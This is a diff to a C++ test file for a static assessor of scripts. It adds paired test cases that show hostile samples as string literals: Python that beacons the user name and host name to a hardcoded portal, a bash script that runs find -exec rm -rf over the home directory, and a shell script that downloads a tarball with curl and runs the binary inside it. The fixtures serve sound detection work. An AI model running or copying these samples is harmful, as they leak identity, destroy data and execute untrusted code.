@@ -1,6 +1,7 @@
 // The classes the twenty-seventh session modelled (issue 14), from the tune
-// parts of the hundred-and-nineteenth round (tests/corpus/prog123_MANIFEST.tsv)
-// and real code installed from Debian (impacket's timers): programs written
+// parts of the hundred-and-nineteenth and -twenty-first rounds
+// (tests/corpus/prog123_MANIFEST.tsv, prog125_) and real code installed
+// from Debian (impacket's timers): programs written
 // from the rubric alone by writers who never saw the assessor. Strings here
 // are never executed.
 
@@ -459,6 +460,140 @@ TEST(HundredAndNineteenthRoundClasses, ATimerItsCallbackArmsAgainIsAPeriodicTask
        "\n"
        "swarm()\n",
        "FORK-BOMB"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// http.client's conn.request("POST", "/v1/...") goes to the host the
+// connection was made for; that host's provenance (an environment variable
+// the user sets) was not the request's, so the user and host names posted to
+// a portal the user configures were a check-in to a destination of the
+// code's own (IDENTITY-BEACON). A host written into the code stays BLOCKED.
+TEST(HundredAndTwentyFirstRoundClasses, ARequestOnAConnectionGoesWhereItsHostCameFrom) {
+  const Case cases[] = {
+      {"user and host names posted to a portal written into the code", B,
+       "import getpass\n"
+       "import http.client\n"
+       "import json\n"
+       "import socket\n"
+       "\n"
+       "PORTAL_HOST = \"compliance.depot-portal.example.com\"\n"
+       "\n"
+       "\n"
+       "def seat():\n"
+       "    return {\"host\": socket.gethostname(), \"user\": getpass.getuser()}\n"
+       "\n"
+       "\n"
+       "def push(cards):\n"
+       "    body = json.dumps({\"cards\": cards, \"seat\": seat()}).encode()\n"
+       "    conn = http.client.HTTPSConnection(PORTAL_HOST, timeout=20)\n"
+       "    try:\n"
+       "        conn.request(\"POST\", \"/v1/registers\", body=body, headers={\"Content-Type\": \"application/json\"})\n"
+       "        return conn.getresponse().status\n"
+       "    finally:\n"
+       "        conn.close()\n"
+       "\n"
+       "\n"
+       "print(push([{\"operator\": \"A. Jones\", \"expires\": \"2026-01-01\"}]))\n",
+       "IDENTITY-BEACON"},
+      {"the same post to the portal CERTREG_PORTAL names", L,
+       "import getpass\n"
+       "import http.client\n"
+       "import json\n"
+       "import os\n"
+       "import socket\n"
+       "\n"
+       "PORTAL_HOST = os.environ.get(\"CERTREG_PORTAL\", \"compliance.depot-portal.example.com\")\n"
+       "\n"
+       "\n"
+       "def seat():\n"
+       "    return {\"host\": socket.gethostname(), \"user\": getpass.getuser()}\n"
+       "\n"
+       "\n"
+       "def push(cards):\n"
+       "    body = json.dumps({\"cards\": cards, \"seat\": seat()}).encode()\n"
+       "    conn = http.client.HTTPSConnection(PORTAL_HOST, timeout=20)\n"
+       "    try:\n"
+       "        conn.request(\"POST\", \"/v1/registers\", body=body, headers={\"Content-Type\": \"application/json\"})\n"
+       "        return conn.getresponse().status\n"
+       "    finally:\n"
+       "        conn.close()\n"
+       "\n"
+       "\n"
+       "print(push([{\"operator\": \"A. Jones\", \"expires\": \"2026-01-01\"}]))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `base=$(cd ~ && pwd -P)` is the home directory: pwd printed nothing known.
+// It prints the working directory now (unknown after a cd to a place not
+// followed), so every entry under it removed by find -exec rm -rf is a wipe.
+// The same under ./season: LOW.
+TEST(HundredAndTwentyFirstRoundClasses, PwdPrintsTheWorkingDirectory) {
+  const Case cases[] = {
+      {"every entry of the home but the archive removed", B,
+       "#!/usr/bin/env bash\n"
+       "# Clears last season's working files, keeping the archive folder.\n"
+       "set -euo pipefail\n"
+       "WORK_SUBDIR=\"\"\n"
+       "resolve_workspace() {\n"
+       "    local base\n"
+       "    base=$(cd ~ && pwd -P)\n"
+       "    printf '%s/%s' \"${base%/}\" \"${WORK_SUBDIR}\"\n"
+       "}\n"
+       "ws=\"$(resolve_workspace)\"\n"
+       "find \"$ws\" -mindepth 1 -maxdepth 1 ! -name archive -exec rm -rf {} +\n",
+       "WIPE", SH},
+      {"every entry of ./season but the archive removed", L,
+       "#!/usr/bin/env bash\n"
+       "# Clears last season's working files, keeping the archive folder.\n"
+       "set -euo pipefail\n"
+       "WORK_SUBDIR=\"\"\n"
+       "resolve_workspace() {\n"
+       "    local base\n"
+       "    mkdir -p ./season && base=$(cd ./season && pwd -P)\n"
+       "    printf '%s/%s' \"${base%/}\" \"${WORK_SUBDIR}\"\n"
+       "}\n"
+       "ws=\"$(resolve_workspace)\"\n"
+       "find \"$ws\" -mindepth 1 -maxdepth 1 ! -name archive -exec rm -rf {} +\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `tmp="$CACHE/.dl.$$"`: downloaded into, then extracted and the binary in
+// it run in the background. $$ was an unknown part like any other, so the
+// name was not tracked and the archive extracted held nothing known. $$ is
+// one number for the whole run: marked, the same name is the same file.
+// The same download of tables, only read: LOW.
+TEST(HundredAndTwentyFirstRoundClasses, AFileNamedWithThePidIsOneFile) {
+  const Case cases[] = {
+      {"a solver downloaded to .dl.$$, extracted and started", B,
+       "#!/bin/sh\n"
+       "set -eu\n"
+       "CACHE=\"${XDG_CACHE_HOME:-$HOME/.cache}/tidemodel\"\n"
+       "URL=\"https://downloads.example.com/solver/solver-linux-x64.tar.gz\"\n"
+       "mkdir -p \"$CACHE\"\n"
+       "tmp=\"$CACHE/.dl.$$\"\n"
+       "curl -fsSL -o \"$tmp\" \"$URL\"\n"
+       "tar -xzf \"$tmp\" -C \"$CACHE\" --strip-components=1\n"
+       "rm -f \"$tmp\"\n"
+       "chmod 700 \"$CACHE/solver\"\n"
+       "nice -n 19 \"$CACHE/solver\" --background >/dev/null 2>&1 &\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"tide tables downloaded the same way and read with head", L,
+       "#!/bin/sh\n"
+       "set -eu\n"
+       "CACHE=\"${XDG_CACHE_HOME:-$HOME/.cache}/tidemodel\"\n"
+       "URL=\"https://downloads.example.com/tables/tide-tables.tar.gz\"\n"
+       "mkdir -p \"$CACHE\"\n"
+       "tmp=\"$CACHE/.dl.$$\"\n"
+       "curl -fsSL -o \"$tmp\" \"$URL\"\n"
+       "tar -xzf \"$tmp\" -C \"$CACHE\" --strip-components=1\n"
+       "rm -f \"$tmp\"\n"
+       "head -n 5 \"$CACHE/tables.csv\"\n",
+       nullptr, SH},
   };
   for (const auto& c : cases) check(c);
 }
